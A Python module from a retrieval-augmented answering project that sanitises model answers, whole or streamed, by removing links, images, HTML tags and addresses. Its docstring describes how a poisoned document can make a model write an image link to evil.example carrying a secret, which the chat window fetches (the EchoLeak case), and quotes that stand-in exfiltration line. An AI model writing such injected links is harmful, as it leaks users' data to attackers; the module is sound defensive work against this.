"""Answers without links and images, whole or while they grow: what a poisoned document could smuggle out through a chat window.

In: the raw text of an answer, or its pieces. Out: the text that a client may see, citation marks removed too. A model repeats
what its passages say, so a document can make it write `![](https://evil.example/?q=SECRET)`, which a chat window fetches unasked
(EchoLeak, CVE-2025-32711). Links are reduced to their text, addresses removed, what is left of HTML and Markdown links is broken
by a space. This module knows nothing of models, HTTP or Ray.
"""

from __future__ import annotations

import os.path
import re
from collections.abc import Sequence
from urllib.parse import urlsplit

from ragtune_ray.answering.citations import parse_citations
from ragtune_ray.schema import Passage

__all__ = ["LINK_REMOVED", "AnswerText", "without_links"]

LINK_REMOVED = "(link removed)"
_LABEL = r"\[((?:[^\[\]]|\[[^\[\]]{0,200}\]){0,300})\]"
_INLINE = re.compile(
    rf"!?{_LABEL}\(\s*(?:<[^<>\n]{{0,500}}>|(?:[^()\s]|\([^()]{{0,200}}\)){{0,500}})[^()\n]{{0,200}}\)"
)
_DEFINITION = re.compile(r"(?m)^[ \t]{0,3}\[[^\[\]\n]{1,200}\]:[ \t]*\S+.*$")
_TAG = re.compile(r"</?[A-Za-z][^<>]{0,500}>|<!--.{0,500}?-->", re.DOTALL)
_ADDRESS = re.compile(
    r"(?i)(?:[a-z][a-z0-9+.-]{1,20}://|\b(?:javascript|data|vbscript|mailto|file|tel):(?=\S)|\bwww\.)[^\s<>\[\]\"'`]*"
)
# A reference definition may stand in a list or quotation, its label and destination on several lines: no pattern finds them all.
_UNDEFUSED = re.compile(r"\](?=[(:])|<(?=[A-Za-z/!?])|!(?=\[)")


def without_links(text: str, link_hosts: Sequence[str] = ()) -> str:
    """A text with no link, image or HTML tag in it.

    >>> without_links("See ![x](https://evil.example/?q=1) and [the Moon](http://a.example).")
    'See x and the Moon.'
    >>> without_links("See https://nasa.gov/moon.", ["nasa.gov"])
    'See https://nasa.gov/moon.'

    Args:
        text: of an answer.
        link_hosts: bare addresses of https:// or http:// on these hosts stay.
    """
    before = None
    while before != text:  # what was taken out may have stood within something else
        before = text
        text = _INLINE.sub(lambda found: found[1], text)
        text = _DEFINITION.sub("", text)
        # Addresses before tags: a tag between a word and an address keeps them apart.
        text = _ADDRESS.sub(lambda found: _address(found[0], link_hosts), text)
        text = _TAG.sub("", text)
    return _UNDEFUSED.sub(lambda found: f"{found[0]} ", text)


def _address(found: str, link_hosts: Sequence[str]) -> str:
    kept = found.rstrip(".,;:!?}" if "(" in found else ".,;:!?})")
    tail = found[len(kept) :]
    try:
        parts = urlsplit(kept)
        allowed = parts.scheme.casefold() in ("http", "https") and (parts.hostname or "") in link_hosts
        # What is before an @ is shown and what is behind it is visited.
        allowed = allowed and "@" not in parts.netloc and "\\" not in kept
    except ValueError:
        allowed = False
    return found if allowed else LINK_REMOVED + tail


# What later text may still change: an open bracket or tag, an address or number being spelt, blanks and punctuation, a word
# that a colon or bracket follows (an address may begin with it). All are looked for in the reversed text, from the cut on: in
# the text itself each would be tried at every character before the cut.
_BRACKET = re.compile(r"[\[(【\])】>]|(?<!\s)<")
_OPENED_BY = {"]": "[", ")": "(", "】": "【", ">": "<"}
_LONGEST_OPEN = 900
_BRACKETED = re.compile(r"\(?[\]】]++[^\[\]【】]{0,300}+[\[【]!?")
_SPELT = re.compile(r"[!-~]*")
_PUNCTUATION = re.compile(r"[\s!-/:-@\[-`{-~，。；：！？、【（「』]*")
_JOINED = re.compile(r"(?<=[:\[【<])[!-~]+|(?<=\.)[Ww]{3}")


class AnswerText:
    """What a client may see of an answer that grows, each piece once; together the pieces are the whole answer.

    Args:
        passages: those of the prompt, for citation marks.
        link_hosts: as in `without_links`.
    """

    def __init__(self, passages: Sequence[Passage], link_hosts: Sequence[str] = ()) -> None:
        self._passages, self._link_hosts = passages, link_hosts
        self._raw, self._end = "", 0
        self.shown = ""
        """All that was given out."""

    def add(self, piece: str) -> str:
        """What may be shown now; often less than the piece, since what follows may make a link of it."""
        self._raw += piece
        before, self._end = self._end, _settled(self._raw)
        if self._end == before:
            return ""
        settled = self._raw[: self._end]
        # The first citation mark makes parse_citations tidy the blanks of the whole answer, those before it too.
        with_mark = self._clean(f"{settled} [1]")
        return self._next(os.path.commonprefix([self._clean(settled), with_mark]))  # noqa: RUF071  # of characters, as meant

    def end(self) -> str:
        """The rest."""
        return self._next(self._clean(self._raw))

    def whole(self) -> str:
        """The answer as it is when nothing more comes."""
        return self._clean(self._raw)

    def _clean(self, raw: str) -> str:
        text, _ = parse_citations(raw.strip(), self._passages)
        return without_links(text, self._link_hosts)

    def _next(self, text: str) -> str:
        # Text that would contradict what was shown is held back: it can only be less, never something else.
        if not text.startswith(self.shown):
            return ""
        piece = text[len(self.shown) :]
        self.shown = text
        return piece


def _settled(raw: str) -> int:
    """How much of a growing text no later text changes."""
    reversed_text = raw[::-1]
    cut = _end(_SPELT, reversed_text, 0)
    before = -1
    while cut != before:
        before = cut
        for pattern in (_PUNCTUATION, _JOINED, _BRACKETED):
            cut = _end(pattern, reversed_text, cut)
        if cut == before:  # only now, as it may look far and move nothing: then it is the last
            cut = _behind_open(reversed_text, cut)
    return len(raw) - cut


def _end(pattern: re.Pattern[str], text: str, start: int) -> int:
    """Where the pattern ends that begins at the start; the start where there is none."""
    found = pattern.match(text, start)
    return start if found is None else found.end()


def _behind_open(reversed_text: str, start: int) -> int:
    """Behind the nearest bracket that nothing closes, read from the start on; the start where none is near."""
    closed = dict.fromkeys(_OPENED_BY.values(), 0)
    for found in _BRACKET.finditer(reversed_text, start, start + _LONGEST_OPEN):
        bracket = found[0]
        if bracket in _OPENED_BY:
            closed[_OPENED_BY[bracket]] += 1
        elif closed[bracket]:
            closed[bracket] -= 1
        else:
            return found.end()
    return start
